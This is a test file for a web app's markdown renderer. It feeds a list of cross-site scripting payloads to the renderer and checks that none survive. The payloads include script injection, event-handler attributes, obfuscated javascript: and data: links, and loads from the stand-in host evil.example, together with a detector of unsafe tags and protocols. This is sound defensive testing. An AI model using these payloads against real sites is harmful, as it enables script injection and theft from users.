import { cleanup, screen } from '@testing-library/react';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { longParagraph } from './long-text';
import { showMarkdown, showNote } from './show-markdown';

const safeElements = new Set(
  'div p span a img em strong del code pre blockquote ul ol li input table thead tbody tr th td section sup h2 h3 h4 h5 h6 hr br figure figcaption button'.split(
    ' ',
  ),
);

/** Whatever could run, load or submit something that the reader did not ask for. */
function dangersIn(container: HTMLElement): readonly string[] {
  return [...container.querySelectorAll('*')].flatMap((element) => {
    const name = element.tagName.toLowerCase();
    const dangers = safeElements.has(name) ? [] : [`<${name}>`];
    if (element instanceof HTMLButtonElement && element.type !== 'button')
      dangers.push(`<button type="${element.type}">`);
    for (const { name: attribute, value } of element.attributes) {
      if (/^(?:on|style$|srcdoc$|formaction$|xlink)/u.test(attribute)) dangers.push(`<${name} ${attribute}>`);
      if (!/^(?:href|src)$/u.test(attribute)) continue;
      const { protocol } = new URL(value, 'https://host.example/posts/a-post/');
      if (!/^(?:https?|mailto|xmpp|ircs?):$/u.test(protocol)) dangers.push(`<${name} ${attribute}="${value}">`);
    }
    return dangers;
  });
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<style>@import "//evil.example/x.css"</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'text <b onmouseover="alert(1)">bold</b> text',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#x6A;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<  javascript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:https://host.example/1)',
  '[x](view-source:javascript:alert(1))',
  '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x" onerror="alert(1)](x)',
  '![x][r]\n\n[r]: <data:text/html,x> "t"',
  '[![x](javascript:alert(1))](javascript:alert(1))',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| [x](javascript:alert(1)) |',
  '- [ ] <input autofocus onfocus=alert(1)>',
  'x[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  '> > <script>\n> > alert(1)\n> > </script>',
  '```html "><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '# <script>alert(1)</script> {#x onclick=alert(1)}',
  'https://ok.example/"onmouseover="alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

it.each(payloads)('makes nothing dangerous of %j', (payload) => {
  expect(dangersIn(showMarkdown(payload))).toEqual([]);
});

it.each(payloads)('makes nothing dangerous of %j in a heading, nor where its words are repeated', (payload) => {
  const line = payload.replaceAll('\n', ' ');
  const container = showMarkdown(`${longParagraph}\n\n## One\n\n## Two\n\n## Three ${line}`);
  expect(screen.getByRole('navigation', { name: 'Contents' })).toBeVisible();
  expect(dangersIn(container)).toEqual(['<nav>', '<details>', '<summary>']);
});

it.each(payloads)('makes nothing dangerous of %j in a note, and loads nothing', (payload) => {
  const container = showNote(payload);
  expect(dangersIn(container)).toEqual([]);
  expect(container.querySelector('img')).not.toBeInTheDocument();
});

it.each(['/javascript:alert(1)', '/javascript:alert(1)//', './javascript:alert(1)', '/data:text/html,x'])(
  'keeps %j a path, also on the home page, from where it is the first step',
  (path) => {
    const container = showMarkdown(`[x](${path}) ![y](${path})`, '/');
    expect(dangersIn(container)).toEqual([]);
    expect(screen.getByRole('link', { name: 'x' }).getAttribute('href')).toMatch(/^(?:\.|posts)\//u);
  },
);

it('makes nothing dangerous of payloads in one another either', () => {
  const markup = fc.constantFrom('[', '](', ')', '![', '<', '>', '`', '*', '\n', '\n\n> ', '\n- ', '|', '"', '&#106;');
  const pieces = fc.oneof(markup, fc.constantFrom('javascript:', 'data:text/html,', 'x', 'onerror=', ...payloads));
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
      expect(dangersIn(showMarkdown(parts.join('')))).toEqual([]);
      expect(dangersIn(showNote(parts.join('')))).toEqual([]);
      cleanup();
    }),
    { numRuns: 150 },
  );
});

it('leaves the words of a link whose address it refused', () => {
  showMarkdown('Read [this](javascript:alert(1)) and ![a picture](data:image/png,x).');
  expect(screen.getByText('this')).toBeVisible();
  expect(screen.getByText('a picture')).toBeVisible();
  expect(screen.queryByRole('link')).not.toBeInTheDocument();
  expect(screen.queryByRole('img')).not.toBeInTheDocument();
});

it('shows raw HTML as the text it is', () => {
  const container = showMarkdown(
    'Before <b onclick="x()">bold</b>.\n\n<div class="a">\n  <script>run()</script>\n</div>',
  );
  expect(container).toHaveTextContent('Before <b onclick="x()">bold</b>.');
  expect(container).toHaveTextContent('<div class="a"> <script>run()</script></div>');
});

it.each([
  ['quotes', '>'.repeat(20_000)],
  ['quotes with words', `${'> '.repeat(5_000)}deep`],
  ['lists', `${'- '.repeat(3_000)}deep`],
])('shows %s nested thousands deep as they were written, at once', (_what, text) => {
  const container = showMarkdown(text);
  expect(container.textContent).toBe(text);
  expect(container.querySelectorAll('*').length).toBeLessThan(10);
});

it('keeps the words of what is nested deeper than a page can be', () => {
  const depth = 300;
  const text = `${'_a **b '.repeat(depth)}deep${'**_'.repeat(depth)}`;
  const container = showMarkdown(text);
  let deepest = 0;
  for (const element of container.querySelectorAll('*')) {
    let level = 0;
    for (let parent = element.parentElement; parent !== null; parent = parent.parentElement) level++;
    deepest = Math.max(deepest, level);
  }
  expect(deepest).toBeGreaterThan(100);
  expect(deepest).toBeLessThan(120);
  expect(container).toHaveTextContent('deep');
});
